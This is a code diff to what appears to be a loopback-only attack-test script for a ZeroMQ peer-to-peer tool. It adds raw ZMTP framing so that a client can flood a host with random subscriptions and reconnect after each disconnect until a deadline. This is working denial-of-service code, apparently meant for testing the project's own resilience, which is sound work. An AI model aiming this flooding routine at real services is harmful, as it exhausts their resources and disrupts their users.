@@ -14,6 +14,7 @@ import json
 import os
 import resource
 import socket
+import struct
 import sys
 import time
 
@@ -22,6 +23,8 @@ import zmq
 from zp2p_gui import PROTOCOL_VERSION
 
 LINGER_S = 2.0  # how long a subscriber stays connected after its last subscription
+DEADLINE_S = 60.0
+GREETING = b"\xff" + b"\x00" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\x00") + b"\x00" + b"\x00" * 31
 
 
 def _loopback(*ips: str) -> None:
@@ -30,18 +33,55 @@ def _loopback(*ips: str) -> None:
             raise SystemExit(f"refusing to attack {ip}: loopback only")
 
 
+def zmtp_frame(body: bytes, command: bool = False) -> bytes:
+    flags = 0x04 if command else 0x00
+    if len(body) > 255:
+        return bytes([flags | 0x02]) + struct.pack(">Q", len(body)) + body
+    return bytes([flags, len(body)]) + body
+
+
+def zmtp_connect(source: str, host: str, port: int, socket_type: bytes, timeout: float = 5.0) -> socket.socket:
+    """A plain TCP socket that has said just enough ZMTP 3.0 (NULL mechanism) to send frames."""
+    conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    try:
+        conn.settimeout(timeout)
+        conn.bind((source, 0))
+        conn.connect((host, port))
+        conn.sendall(GREETING)
+        read_exact(conn, 64)
+        ready = b"\x05READY" + b"\x0bSocket-Type" + struct.pack(">I", len(socket_type)) + socket_type
+        conn.sendall(zmtp_frame(ready, command=True))
+    except OSError:
+        conn.close()
+        raise
+    return conn
+
+
+def read_exact(conn: socket.socket, n: int) -> bytes:
+    data = b""
+    while len(data) < n:
+        chunk = conn.recv(n - len(data))
+        if not chunk:
+            raise ConnectionError("the host hung up")
+        data += chunk
+    return data
+
+
 def subscriptions(source: str, host: str, port: int, count: int, size: int) -> None:
-    """One XSUB sending `count` distinct subscriptions of `size` random bytes."""
-    ctx = zmq.Context()
-    xsub = ctx.socket(zmq.XSUB)
-    xsub.setsockopt(zmq.LINGER, 0)
-    xsub.setsockopt(zmq.SNDHWM, 0)
-    xsub.connect(f"tcp://{source}:0;{host}:{port}")
-    for _ in range(count):
-        xsub.send(b"\x01" + os.urandom(size))
-    time.sleep(LINGER_S)
-    xsub.close(0)
-    ctx.term()
+    """`count` distinct subscriptions of `size` random bytes, reconnecting whenever the host hangs
+    up, for at most DEADLINE_S. Raw frames: a real XSUB would keep every one of them itself."""
+    sent = 0
+    deadline = time.monotonic() + DEADLINE_S
+    while sent < count and time.monotonic() < deadline:
+        try:
+            with zmtp_connect(source, host, port, b"XSUB") as conn:
+                while sent < count:
+                    conn.sendall(zmtp_frame(b"\x01" + os.urandom(size)))
+                    sent += 1
+                time.sleep(LINGER_S)
+        except OSError:
+            continue  # hung up on: connect again, as a determined attacker would
+    print(json.dumps({"sent": sent}), flush=True)
 
 
 def registrations(source: str, host: str, port: int, count: int) -> None:
